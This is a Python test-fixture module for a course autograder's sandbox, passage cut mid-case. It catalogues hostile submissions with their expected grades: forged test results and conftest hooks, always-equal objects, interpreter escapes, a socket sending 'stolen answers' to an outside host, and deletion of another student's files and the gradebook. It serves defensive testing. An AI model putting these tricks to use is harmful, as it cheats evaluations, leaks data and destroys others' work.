"""The hostile submissions: each is an answer file for a real chapter 1 exercise, with the
grade it must get.

A case either is **rejected** by vetting (``rejected``: substrings of the reasons; the
grade is then 0 and the tests never run), or runs and must pass **exactly** the tests in
``passed`` (per suite) for exactly ``points``. ``deep`` runs the same answer again with
some layers turned off (vetting, the in-process guards) to show that the next layer
holds on its own; it carries its own expected grade. ``notes`` are the lines the run
adds to the student's feedback (``SuiteResults.notes``, both suites together): none,
unless the answer printed past the output limit.

Placeholders filled in per run: ``@OTHER@`` (another student's submission folder),
``@OUT@`` (the grader's OUT folder), ``@SOLUTIONS@`` (the instructor's solutions tree),
``@PORT@`` (a TCP port the test listens on, on the grader's loopback).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

from tests import repo
from twinbook.grading.sandbox import Limits, _Layers

SOLUTIONS = repo.SOLUTIONS / "ch01-concurrency"

#: small limits keep the hostile suite fast; wall is per suite, the rest per test process
LIMITS = Limits(
    wall_seconds=8,
    cpu_seconds=3,
    memory_bytes=1 << 30,
    processes=64,
    file_bytes=1 << 20,
    output_bytes=64 << 10,
)

#: the feedback line of a run that printed more than LIMITS.output_bytes
OUTPUT_NOTE = "output limit exceeded (64 KiB): output truncated"

POOL = "01-worker-pool"
LIMITER = "04-rate-limiter"

# --- a correct answer for each language (worker pool), the base of many cases ------------

PY_POOL = """
import threading


def map_limited(fn, items, limit):
    if limit < 1:
        raise ValueError(f"limit must be at least 1, got {limit}")
    items = list(items)
    results = [None] * len(items)
    errors = []
    slots = threading.Semaphore(limit)

    def work(i, item):
        try:
            results[i] = fn(item)
        except BaseException as exc:
            errors.append(exc)
        finally:
            slots.release()

    threads = []
    for i, item in enumerate(items):
        slots.acquire()
        if errors:
            slots.release()
            break
        thread = threading.Thread(target=work, args=(i, item))
        thread.start()
        threads.append(thread)
    for thread in threads:
        thread.join()
    if errors:
        raise errors[0]
    return results
"""

# wrong on purpose: passes only test_empty_items (1 point), no hidden test
PY_WRONG = """
def map_limited(fn, items, limit):
    return []
"""

GO_POOL = """package main

import (
	"context"
	"fmt"
	"sync"
)

func MapLimited(ctx context.Context, limit int, items []int, fn func(context.Context, int) (int, error)) ([]int, error) {
	if limit < 1 {
		return nil, fmt.Errorf("MapLimited: limit must be at least 1, got %d", limit)
	}
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	results := make([]int, len(items))
	slots := make(chan struct{}, limit)
	var (
		wg       sync.WaitGroup
		once     sync.Once
		firstErr error
	)
	for i, item := range items {
		select {
		case slots <- struct{}{}:
		case <-ctx.Done():
		}
		if ctx.Err() != nil {
			break
		}
		wg.Go(func() {
			defer func() { <-slots }()
			v, err := fn(ctx, item)
			if err != nil {
				once.Do(func() { firstErr = err; cancel() })
				return
			}
			results[i] = v
		})
	}
	wg.Wait()
	if firstErr != nil {
		return nil, firstErr
	}
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("MapLimited: %w", err)
	}
	return results, nil
}

func main() {}
"""

PY_ALL = {
    "visible": (
        "test_results_in_order",
        "test_runs_limit_calls_at_once",
        "test_never_more_than_limit",
        "test_bad_limit_raises_value_error",
        "test_empty_items",
    ),
    "hidden": (
        "test_hidden_error_propagates_and_stops_new_calls",
        "test_hidden_no_threads_left_behind",
        "test_hidden_accepts_any_iterable",
        "test_hidden_many_items_stay_within_limit",
    ),
}
GO_ALL = {
    "visible": (
        "TestResultsInOrder",
        "TestRunsLimitCallsAtOnce",
        "TestNeverMoreThanLimit",
        "TestBadLimitIsAnError",
        "TestEmptyItems",
    ),
    "hidden": (
        "TestHiddenFirstErrorStopsNewCalls",
        "TestHiddenCancelledContext",
        "TestHiddenNoGoroutineLeftBehind",
        "TestHiddenManyItemsStayWithinLimit",
    ),
}
NONE = {"visible": (), "hidden": ()}


@dataclass(frozen=True)
class Deep:
    """The same answer with layers off, and the grade it must still get."""

    layers: _Layers
    passed: dict[str, tuple[str, ...]]
    points: float
    messages: dict[str, str] = field(default_factory=dict)  # test -> substring of its message
    outcomes: str | None = None  # every test must have this outcome ("skipped", "error" ...)
    notes: tuple[str, ...] = ()  # SuiteResults.notes of the two suites together


@dataclass(frozen=True)
class Case:
    id: str
    exercise: str
    lang: str
    source: str
    why: str  # the attack, in words
    rejected: tuple[str, ...] = ()
    passed: dict[str, tuple[str, ...]] | None = None
    points: float = 0
    messages: dict[str, str | tuple[str, ...]] = field(
        default_factory=dict
    )  # test -> substring (or any of)
    deep: Deep | tuple[Deep, ...] | None = None
    limits: dict = field(default_factory=dict)  # overrides of the suite's small limits
    bystander: bool = False  # grade a correct submission in parallel: it must get full marks
    notes: tuple[str, ...] = ()  # SuiteResults.notes of the two suites together
    max_seconds: float | None = None  # both suites together must finish within this

    def render(self, classroom: Path, port: int = 9) -> str:
        return (
            self.source.replace("@OTHER@", str(classroom / "submissions" / "bob"))
            .replace("@OUT@", str(classroom / "out"))
            .replace("@SOLUTIONS@", str(SOLUTIONS))
            .replace("@PORT@", str(port))
        )


def points_of(exercise, lang: str, passed: dict[str, list[str] | tuple[str, ...]]) -> float:
    spec = exercise.lang(lang)
    return sum(spec.points[t] for suite in passed.values() for t in suite)


_NO_VET = _Layers(vet=False)
_NOTHING_IN_PROCESS = _Layers(vet=False, guard=False)

# --- Python ----------------------------------------------------------------------------------

PYTHON = [
    Case(
        "py-os-exit-at-import",
        POOL,
        "python",
        "import os\nos._exit(0)\n" + PY_POOL,
        "end the test process with exit code 0 before any test runs",
        rejected=("import of 'os' is not allowed here", "the private attribute _exit"),
        deep=(
            Deep(
                _NO_VET,
                NONE,
                0,
                outcomes="error",
                messages={"test_results_in_order": "importing os is not allowed here"},
            ),
            Deep(
                _NOTHING_IN_PROCESS,
                NONE,
                0,
                messages={"test_results_in_order": "exited with code 0"},
            ),
        ),
    ),
    Case(
        "py-sys-exit-at-import",
        POOL,
        "python",
        "import sys\nsys.exit(0)\n" + PY_POOL,
        "raise SystemExit while the answer is imported",
        rejected=("import of 'sys' is not allowed here",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={
                "test_empty_items": "the answer did not load: RestrictedError: line 1: importing sys"
            },
        ),
    ),
    Case(
        "py-raise-systemexit",
        POOL,
        "python",
        PY_POOL + "\nraise SystemExit(0)\n",
        "SystemExit without importing sys",
        rejected=("SystemExit is not allowed",),
    ),
    Case(
        "py-exit-builtin",
        POOL,
        "python",
        PY_POOL + "\nexit(0)\n",
        "the site builtin exit()",
        rejected=("exit is not allowed",),
    ),
    Case(
        "py-fake-pass-output",
        POOL,
        "python",
        """
def map_limited(fn, items, limit):
    print("test_results_in_order PASSED")
    print("============ 9 passed in 0.01s ============")
    print('{"event": "result", "name": "test_results_in_order", "outcome": "passed"}')
    print('<testsuite tests="9" failures="0"><testcase name="test_results_in_order"/></testsuite>')
    return []
""",
        "print pytest's PASSED lines, a fake result event and JUnit XML",
        passed={"visible": ("test_empty_items",), "hidden": ()},
        points=1,
    ),
    Case(
        "py-forged-result-files",
        POOL,
        "python",
        """
import json

with open("results.json", "w") as f:
    json.dump({"version": 3, "status": "pass"}, f)
"""
        + PY_WRONG,
        "write a passing results.json next to the tests",
        rejected=("import of 'json' is not allowed here", "open is not allowed"),
        deep=Deep(_NOTHING_IN_PROCESS, {"visible": ("test_empty_items",), "hidden": ()}, 1),
    ),
    Case(
        "py-forged-files-everywhere",
        POOL,
        "python",
        """
import os

for path in ["results.json", "junit.xml", "events.jsonl", "/sandbox/in/tests/results.json",
             "@OUT@/bob/results.json", "@OUT@/gradebook.csv", "@OUT@/mallory.xml"]:
    try:
        with open(path, "w") as f:
            f.write('{"version": 3, "status": "pass", "tests": []}')
    except OSError:
        pass
"""
        + PY_WRONG,
        "forge results.json / JUnit files in the run folder and in the grader's OUT",
        rejected=("import of 'os' is not allowed here", "open is not allowed"),
        deep=Deep(_NOTHING_IN_PROCESS, {"visible": ("test_empty_items",), "hidden": ()}, 1),
    ),
    Case(
        "py-forge-result-channel",
        POOL,
        "python",
        """
import os

for fd in range(3, 256):  # wherever the jail put the pipe
    try:
        os.write(fd, b'{"event": "result", "name": "test_results_in_order", "outcome": "passed"}\\n')
    except OSError:
        pass
"""
        + PY_POOL,
        "write fake events straight onto the harness's result pipe",
        rejected=("import of 'os' is not allowed here",),
        deep=Deep(
            _NOTHING_IN_PROCESS, NONE, 0, messages={"test_results_in_order": "tampered with"}
        ),
    ),
    Case(
        "py-monkeypatch-module",
        POOL,
        "python",
        "import time\ntime.monotonic = lambda: 0.0\n" + PY_POOL,
        "freeze time.monotonic for the tests too",
        rejected=("assigning to time.monotonic would change a library for everyone",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_results_in_order": "changing the module time is not allowed"},
        ),
    ),
    Case(
        "py-monkeypatch-class-alias",
        POOL,
        "python",
        "import threading\nThread = threading.Thread\nThread.is_alive = lambda self: False\n"
        + PY_POOL,
        "patch a library class through an alias so leak checks see no thread",
        rejected=("assigning to Thread.is_alive would change a library for everyone",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": "changing 'Thread' is not allowed"},
        ),
    ),
    Case(
        "py-monkeypatch-assert",
        POOL,
        "python",
        "import builtins\nbuiltins.AssertionError = ArithmeticError\n" + PY_WRONG,
        "replace AssertionError for everyone",
        rejected=("import of 'builtins' is not allowed here",),
    ),
    Case(
        "py-always-equal",
        POOL,
        "python",
        """
class Anything(list):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False


def map_limited(fn, items, limit):
    if limit < 1:
        raise ValueError(limit)
    return Anything()
""",
        "return an object equal to every expected value",
        rejected=("defining __eq__ is not allowed", "defining __ne__ is not allowed"),
    ),
    Case(
        "py-always-equal-by-type",
        POOL,
        "python",
        """
Anything = type("Anything", (list,), {"__eq__": lambda self, other: True})


def map_limited(fn, items, limit):
    return Anything()
""",
        "build the always-equal class with three-argument type()",
        rejected=("type is only allowed as type(x)", "the string mentions __eq__"),
    ),
    Case(
        "py-conftest",
        POOL,
        "python",
        '''
HOOK = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""
for path in ["conftest.py", "/sandbox/in/tests/conftest.py", "../tests/conftest.py"]:
    try:
        with open(path, "w") as f:
            f.write(HOOK)
    except OSError:
        pass
'''
        + PY_WRONG,
        "drop a conftest.py that turns every report into a pass",
        rejected=("open is not allowed",),
        deep=Deep(_NOTHING_IN_PROCESS, {"visible": ("test_empty_items",), "hidden": ()}, 1),
    ),
    Case(
        "py-answer-defines-pytest-hooks",
        POOL,
        "python",
        """
def pytest_runtest_makereport(item, call):
    return None


def pytest_collection_modifyitems(session, config, items):
    items.clear()
"""
        + PY_WRONG,
        "define pytest hooks in the answer, hoping it is loaded as a plugin",
        passed={"visible": ("test_empty_items",), "hidden": ()},
        points=1,
    ),
    Case(
        "py-skip",
        POOL,
        "python",
        "import pytest\n\n\ndef map_limited(fn, items, limit):\n    pytest.skip('later')\n",
        "skip every test from the answer",
        rejected=("import of 'pytest' is not allowed here",),
        # the restricted loader refuses the import: no test runs, none is skipped
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": "importing pytest is not allowed here"},
        ),
    ),
    Case(
        "py-memory-bomb",
        POOL,
        "python",
        "blob = bytearray(8 << 30)\n" + PY_POOL,
        "allocate 8 GiB while the answer is imported",
        passed=NONE,
        points=0,
        messages={"test_results_in_order": "MemoryError"},
        bystander=True,
    ),
    Case(
        "py-output-flood",
        POOL,
        "python",
        'for _ in range(50):\n    print("x" * 40000)\n' + PY_POOL,
        "print 2 MB; the tests must still pass and the grader's output stay clean",
        passed=PY_ALL,
        points=14,
        bystander=True,
        notes=(OUTPUT_NOTE,),
        deep=Deep(_NOTHING_IN_PROCESS, PY_ALL, 14, notes=(OUTPUT_NOTE,)),
    ),
    Case(
        "py-output-flood-raw",
        POOL,
        "python",
        """
import os
import threading


def flood():
    for _ in range(400):
        os.write(1, b"y" * 65536)
        os.write(2, b"z" * 65536)


threading.Thread(target=flood, daemon=True).start()
"""
        + PY_POOL,
        "write 50 MB straight to fds 1 and 2; the grader keeps 64 KiB",
        rejected=("import of 'os' is not allowed here",),
        deep=Deep(_NOTHING_IN_PROCESS, PY_ALL, 14, notes=(OUTPUT_NOTE,)),
    ),
    Case(
        "py-network",
        POOL,
        "python",
        """
import socket

for address in [("127.0.0.1", @PORT@), ("1.1.1.1", 53)]:
    try:
        socket.create_connection(address, timeout=1).sendall(b"stolen answers")
    except OSError:
        pass
"""
        + PY_POOL,
        "open a TCP connection to the grader's machine and to the internet",
        rejected=("import of 'socket' is not allowed here",),
        deep=Deep(_NOTHING_IN_PROCESS, PY_ALL, 14),
    ),
    Case(
        "py-read-hidden-tests",
        POOL,
        "python",
        """
def map_limited(fn, items, limit):
    with open("@SOLUTIONS@/01-worker-pool/python/test_hidden.py") as f:
        raise RuntimeError(f.read())
""",
        "read the hidden tests and show them in a visible failure message",
        rejected=("open is not allowed",),
    ),
    Case(
        "py-search-hidden-tests",
        POOL,
        "python",
        """
import os


def map_limited(fn, items, limit):
    found = []
    places = ["@SOLUTIONS@/01-worker-pool/python/test_hidden.py", "/sandbox/in/tests/test_hidden.py",
              "../tests/test_hidden.py", "@OTHER@/ch01-concurrency/01-worker-pool/python/worker_pool.ipynb"]
    for top in ["/", "/tmp", os.path.expanduser("~")]:
        for folder, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "lib", "lib64")]
            places += [os.path.join(folder, f) for f in files if "hidden" in f or f.endswith(".ipynb")]
    for path in places:
        try:
            with open(path) as f:
                if "test_hidden" in f.read() or "his own work" in open(path).read():
                    found.append(path)
        except OSError:
            pass
    raise RuntimeError(f"found: {found}")
""",
        "search the whole file system for hidden tests and other students' notebooks",
        rejected=("import of 'os' is not allowed here",),
        deep=Deep(
            _NOTHING_IN_PROCESS,
            NONE,
            0,
            messages={"test_results_in_order": "RuntimeError: found: []"},
        ),
    ),
    Case(
        "py-write-other-student",
        POOL,
        "python",
        """
import os
import shutil

for path in ["@OTHER@/ch01-concurrency/01-worker-pool/python/worker_pool.ipynb", "@OUT@/gradebook.csv"]:
    try:
        with open(path, "w") as f:
            f.write("{}")
    except OSError:
        pass
for path in ["@OTHER@", "@OUT@"]:
    shutil.rmtree(path, ignore_errors=True)
"""
        + PY_POOL,
        "overwrite another student's notebook and the gradebook, then delete both folders",
        rejected=("import of 'os' is not allowed here", "import of 'shutil' is not allowed here"),
        deep=Deep(_NOTHING_IN_PROCESS, PY_ALL, 14),
    ),
    Case(
        "py-hard-coded",
        LIMITER,
        "python",
        '''
SCRIPT = {(1, 3): "+++--", (2, 1): "+--+-+-", (0.5, 1): "+-+-", (10, 2): "++++--"}


class Limiter:
    """Replays the answers the visible tests expect, whatever the clock says."""

    def __init__(self, rate, burst, clock):
        self.script = SCRIPT.get((rate, burst), "")
        self.calls = 0

    def allow(self):
        i = self.calls
        self.calls += 1
        return i < len(self.script) and self.script[i] == "+"
''',
        "hard-code the visible tests' answers: the hidden tests catch it",
        passed={
            "visible": (
                "test_allows_burst_at_once",
                "test_refills_at_rate",
                "test_fractional_rate",
                "test_never_more_than_burst",
            ),
            "hidden": ("test_hidden_zero_burst_never_allows",),
        },
        points=5,
    ),
    Case(
        "py-import-the-tests",
        POOL,
        "python",
        "from test_hidden import Boom\nimport test_visible\n" + PY_POOL,
        "import the instructor's test modules (loaded in the same interpreter)",
        rejected=(
            "import of 'test_hidden' is not allowed here",
            "import of 'test_visible' is not allowed here",
        ),
    ),
    Case(
        "py-lying-subclass",
        POOL,
        "python",
        """
import threading


class Worker(threading.Thread):
    def is_alive(self):
        return False  # leaked threads look finished to the hidden leak check


class Results(list):
    def __iter__(self):
        return iter(range(8))
"""
        + PY_POOL,
        "subclass a library or builtin class and lie through the methods the tests call",
        rejected=(
            "Worker.is_alive overrides Thread.is_alive",
            "Results.__iter__ overrides list.__iter__",
        ),
    ),
    Case(
        "py-shadow-library-method",
        POOL,
        "python",
        """
import threading


class Worker(threading.Thread):
    def __init__(self, fn, item):
        super().__init__(daemon=True)
        self.fn, self.item, self.value = fn, item, None
        self.is_alive = lambda: False  # the same lie, set on each object at run time

    def run(self):
        self.value = self.fn(self.item)


def map_limited(fn, items, limit):
    if limit < 1:
        raise ValueError(limit)
    workers = [Worker(fn, x) for x in items]
    for w in workers:
        w.start()
    return [w.value for w in workers]
""",
        "shadow a library method on the answer's own Thread objects (vetting cannot see it)",
        # the run-time guard refuses the assignment: only the tests that build no Worker pass
        passed={"visible": ("test_bad_limit_raises_value_error", "test_empty_items"), "hidden": ()},
        points=2,
        messages={"test_results_in_order": "replacing the method Thread.is_alive is not allowed"},
    ),
    Case(
        "py-getattr-builtins",
        POOL,
        "python",
        'run = getattr(__builtins__, "ev" + "al")\nrun("print(1)")\n' + PY_POOL,
        "reach eval through getattr on __builtins__",
        rejected=("getattr is not allowed", "the name __builtins__ is not allowed"),
    ),
    Case(
        "py-subclasses-escape",
        POOL,
        "python",
        "classes = ().__class__.__bases__[0].__subclasses__()\n" + PY_POOL,
        "walk object.__subclasses__() to a class that can run commands",
        rejected=("the attribute __subclasses__ is not allowed",),
    ),
    Case(
        "py-module-through-attributes",
        POOL,
        "python",
        "import concurrent.futures.thread\nconcurrent.futures.thread.os.system('true')\n" + PY_POOL,
        "reach os through an allowed module's attributes",
        rejected=("the attribute os is not allowed",),
    ),
    Case(
        "py-importlib",
        POOL,
        "python",
        'import importlib\nos = importlib.import_module("o" + "s")\n' + PY_POOL,
        "import a module by a computed name",
        rejected=("import of 'importlib' is not allowed here",),
    ),
    Case(
        "py-signal-handler",
        POOL,
        "python",
        "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n" + PY_POOL,
        "ignore the grader's signals",
        rejected=("import of 'signal' is not allowed here",),
    ),
    Case(
        "py-atexit",
        POOL,
        "python",
        "import atexit\natexit.register(print, 'all passed')\n" + PY_POOL,
        "run code after the tests",
        rejected=("import of 'atexit' is not allowed here",),
    ),
    Case(
        "py-threads-outlive-the-test",
        POOL,
        "python",
        PY_POOL
        + """
import time


def linger():
    while True:
        time.sleep(0.01)


threading.Thread(target=linger, name="lingering").start()  # not a daemon: it never ends
""",
        "leave a non-daemon thread running forever; the run must still end at once",
        passed=PY_ALL,
        points=14,
        max_seconds=7,
    ),
    Case(
        "py-format-string-escape",
        POOL,
        "python",
        """
def map_limited(fn, items, limit):
    spec = "{0.__globals__}"
    raise RuntimeError(spec.format(fn))
""",
        "read a test's globals through str.format",
        rejected=(
            "the string mentions __globals__",
            "str.format is only allowed on a string literal",
        ),
    ),
    Case(
        "py-type-hints-eval",
        POOL,
        "python",
        """
import typing


def f(x: "print('escaped')"):
    pass


typing.get_type_hints(f)
"""
        + PY_POOL,
        "evaluate a string annotation through typing.get_type_hints",
        rejected=("the attribute get_type_hints is not allowed",),
    ),
    Case(
        "py-trace-frames",
        POOL,
        "python",
        """
import threading


def spy(frame, event, arg):
    caller = frame.f_back
    return spy


threading.settrace(spy)
"""
        + PY_POOL,
        "install a trace function to walk the harness's frames",
        rejected=("the attribute settrace is not allowed", "the attribute f_back is not allowed"),
    ),
    Case(
        "py-generator-frame",
        POOL,
        "python",
        """
def gen():
    yield 1


frame = gen().gi_frame
"""
        + PY_POOL,
        "get a frame object from a generator",
        rejected=("the attribute gi_frame is not allowed",),
    ),
    Case(
        "py-pattern-matching-reads",
        POOL,
        "python",
        """
from typing import get_type_hints


def map_limited(fn, items, limit):
    match fn:
        case object(__globals__=scope):
            raise RuntimeError(scope)
""",
        "read attributes by name through match/case and from-imports, where no attribute node shows",
        rejected=(
            "the attribute __globals__ is not allowed",
            "the attribute get_type_hints is not allowed",
        ),
    ),
    Case(
        "py-private-library-attribute",
        POOL,
        "python",
        "import threading\nthreading._shutdown()\n" + PY_POOL,
        "call a library's private function",
        rejected=("the private attribute _shutdown is only allowed on self or cls",),
    ),
    Case(
        "py-module-as-value",
        POOL,
        "python",
        """
import threading


def peek(module):
    return module.excepthook


hook = peek(threading)
"""
        + PY_POOL,
        "pass a module around to reach it where vetting cannot see",
        rejected=(
            "the module threading may only be used as threading.<name>",
            "the attribute excepthook is not allowed",
        ),
    ),
    Case(
        "py-keyboard-interrupt",
        POOL,
        "python",
        "def map_limited(fn, items, limit):\n    raise KeyboardInterrupt\n",
        "abort the whole pytest session",
        rejected=("KeyboardInterrupt is not allowed",),
    ),
    Case(
        "py-finalizer",
        POOL,
        "python",
        "class Ghost:\n    def __del__(self):\n        print('late')\n\n\nghost = Ghost()\n"
        + PY_POOL,
        "run code at an unpredictable time",
        rejected=("defining __del__ is not allowed",),
    ),
    Case(
        "py-metaclass",
        POOL,
        "python",
        "class Meta(type):\n    pass\n\n\nclass Result(metaclass=Meta):\n    pass\n" + PY_POOL,
        "a metaclass that could fake isinstance checks",
        rejected=(
            "type is only allowed as type(x)",
            "class keywords (metaclass=...) are not allowed",
        ),
    ),
]

# --- Python cases that run into the limits (slow: each spends a suite's wall or CPU budget)

# --- marks forged from inside the answer (issue 9, class 1) -----------------------------------
# Each is the wrong answer plus one forgery at import time. Vetting rejects it; with vetting
# off, the restricted loader (twinbook.runner.restricted) refuses it before any test runs,
# statically or at run time, so the forgery earns nothing: 0 points, every test an error.

PYTHON_FORGED = [
    Case(
        "py-forge-metaclass-via-type",
        POOL,
        "python",
        "key = '_' + '_eq_' + '_'\nAny = type(type(1))('Any', (), {key: lambda s, o: True})\n"
        + PY_WRONG,
        "reach the metaclass type through type(type(x)) and build a class from a dict",
        # vetting lets it through: the restricted loader refuses it at run time
        passed=NONE,
        points=0,
        messages={"test_empty_items": "type() of a class is a metaclass"},
    ),
    Case(
        "py-forge-metaclass-via-typing",
        POOL,
        "python",
        "import typing\nkey = '_' + '_eq_' + '_'\nAny = typing.ABCMeta('Any', (), {key: lambda s, o: True})\n"
        + PY_WRONG,
        "a metaclass that an allowed module re-exports (typing.ABCMeta) builds a class from a dict",
        # vetting lets it through: the restricted loader refuses it at run time
        passed=NONE,
        points=0,
        messages={"test_empty_items": "ABCMeta is a metaclass"},
    ),
    Case(
        "py-forge-inherited-eq",
        POOL,
        "python",
        "import collections.abc\n\nclass Everything(collections.abc.Set):\n    pass\n" + PY_WRONG,
        "inherit a library class's comparison instead of writing __eq__",
        # vetting lets it through: the restricted loader refuses it at run time
        passed=NONE,
        points=0,
        messages={"test_empty_items": "would compare with collections.abc.Set.__eq__"},
    ),
    Case(
        "py-forge-gen-frame",
        POOL,
        "python",
        "def g():\n    yield 1\n\nit = g()\nup = it.gi_frame.f_back\n" + PY_WRONG,
        "reach the harness's globals through a generator's frame",
        rejected=("the attribute f_back is not allowed",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'the attribute "f_back" is not allowed: it reaches '},
        ),
    ),
    Case(
        "py-forge-coroutine-frame",
        POOL,
        "python",
        "async def c():\n    pass\n\nco = c()\nup = co.cr_frame\nco.close()\n" + PY_WRONG,
        "walk a coroutine's frame to the caller",
        rejected=("the attribute cr_frame is not allowed",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'the attribute "cr_frame" is not allowed: it reache'},
        ),
    ),
    Case(
        "py-forge-traceback",
        POOL,
        "python",
        "try:\n    1 / 0\nexcept ZeroDivisionError as exc:\n    tb = exc.__traceback__\n"
        + PY_WRONG,
        "an exception's traceback to the test's frame",
        rejected=("the attribute __traceback__ is not allowed",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'the attribute "__traceback__" is not allowed (no d'},
        ),
    ),
    Case(
        "py-forge-type-dict-eq",
        POOL,
        "python",
        "Any = type('Any', (), {'_' + '_eq_' + '_': lambda s, o: True})\n" + PY_WRONG,
        "an object equal to everything built with type() and a dict",
        rejected=("type is only allowed as type(x)",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": "takes 1 positional argument"},
        ),
    ),
    Case(
        "py-forge-dunder-eq",
        POOL,
        "python",
        "class Any(list):\n    def __eq__(self, other):\n        return True\n" + PY_WRONG,
        "define __eq__ that is always true",
        rejected=("Any.__eq__ overrides list.__eq__, which the tests may call o",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'defining "__eq__" is not allowed (the methods with'},
        ),
    ),
    Case(
        "py-forge-match-class",
        POOL,
        "python",
        "def peek(x):\n    match x:\n        case object(__class__=c):\n            return c\n\nleak = peek(1)\n"
        + PY_WRONG,
        "a class pattern reads __class__ by keyword",
        rejected=("the attribute __class__ is not allowed",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'in a class pattern, the attribute "__class__" is n'},
        ),
    ),
    Case(
        "py-forge-format-field",
        POOL,
        "python",
        "leak = '{0._' '_class_' '_}'.format(1)\n" + PY_WRONG,
        "str.format field access to __class__",
        rejected=("the format field {0.__class__} reaches into attributes or it",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": "reaches into attributes or items"},
        ),
    ),
    Case(
        "py-forge-format-attr",
        POOL,
        "python",
        "leak = '{0.real}'.format(1)\n" + PY_WRONG,
        "str.format field reaching an attribute",
        rejected=("the format field {0.real} reaches into attributes or items",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": "reaches into attributes or items"},
        ),
    ),
    Case(
        "py-forge-fstring",
        POOL,
        "python",
        "leak = f'{(1).__class__}'\n" + PY_WRONG,
        "an f-string reaching a dunder",
        rejected=("the attribute __class__ is not allowed",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'the attribute "__class__" is not allowed (no dunde'},
        ),
    ),
    Case(
        "py-forge-metaclass",
        POOL,
        "python",
        "class Meta(type):\n    pass\n\nclass Any(metaclass=Meta):\n    pass\n" + PY_WRONG,
        "a metaclass whose __eq__ answers for the class",
        rejected=("class keywords (metaclass=...) are not allowed",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": "class keywords (metaclass=...) are not allowed"},
        ),
    ),
    Case(
        "py-forge-init-subclass",
        POOL,
        "python",
        "class Base:\n    def __init_subclass__(cls):\n        pass\n" + PY_WRONG,
        "__init_subclass__ to hook later classes",
        rejected=("defining __init_subclass__ is not allowed (allowed special m",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'defining "__init_subclass__" is not allowed (the m'},
        ),
    ),
    Case(
        "py-forge-descriptor",
        POOL,
        "python",
        "class D:\n    def __get__(self, obj, owner):\n        return 0\n" + PY_WRONG,
        "a descriptor that rewrites what tests read",
        rejected=("defining __get__ is not allowed (allowed special methods: __",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'defining "__get__" is not allowed (the methods wit'},
        ),
    ),
    Case(
        "py-forge-settrace",
        POOL,
        "python",
        "import threading\nthreading.settrace(print)\n" + PY_WRONG,
        "threading.settrace to watch the tests' frames",
        rejected=("the attribute settrace is not allowed",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'the attribute "settrace" is not allowed in answers'},
        ),
    ),
    Case(
        "py-forge-module-via-allowed",
        POOL,
        "python",
        "import concurrent.futures\npool = concurrent.futures.ThreadPoolExecutor\nos = concurrent.futures.thread.os\n"
        + PY_WRONG,
        "os reached through an allowed module's attribute",
        rejected=("the attribute os is not allowed",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": "the module os, which is not allowed"},
        ),
    ),
    Case(
        "py-forge-builtins-name",
        POOL,
        "python",
        "b = __builtins__\n" + PY_WRONG,
        "the builtins dict by its dunder name",
        rejected=("the name __builtins__ is not allowed (no dunder names)",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'the name "__builtins__" is not allowed: names may '},
        ),
    ),
    Case(
        "py-forge-private-keyword",
        POOL,
        "python",
        "import threading\nt = threading.Thread(_target=print)\n" + PY_WRONG,
        "a private attribute named by a keyword argument",
        rejected=('the keyword argument "_target" is not allowed: it starts wit',),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'the keyword argument "_target" is not allowed: it '},
        ),
    ),
    Case(
        "py-forge-guard-rebind",
        POOL,
        "python",
        "_getattr_ = lambda o, n: o\n" + PY_WRONG,
        "rebind the loader's guard function",
        rejected=('the name "_getattr_" is not allowed: names may start with on',),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'the name "_getattr_" is not allowed: names may sta'},
        ),
    ),
    Case(
        "py-forge-hash-bool",
        POOL,
        "python",
        "class Yes:\n    def __bool__(self):\n        return True\n    def __hash__(self):\n        return 0\n"
        + PY_WRONG,
        "define __hash__ and __bool__ to fool set and truth tests",
        rejected=("defining __bool__ is not allowed (allowed special methods: _",),
        deep=Deep(
            _NO_VET,
            NONE,
            0,
            outcomes="error",
            messages={"test_empty_items": 'defining "__bool__" is not allowed (the methods wi'},
        ),
    ),
    Case(
        "py-forge-private-library",
        POOL,
        "python",
        "import queue\nq = queue.Queue()\nx = q._qsize\n" + PY_WRONG,
        "a library object's private attribute",
        rejected=("the private attribute _qsize is only allowed on self or cls",),
        deep=Deep(
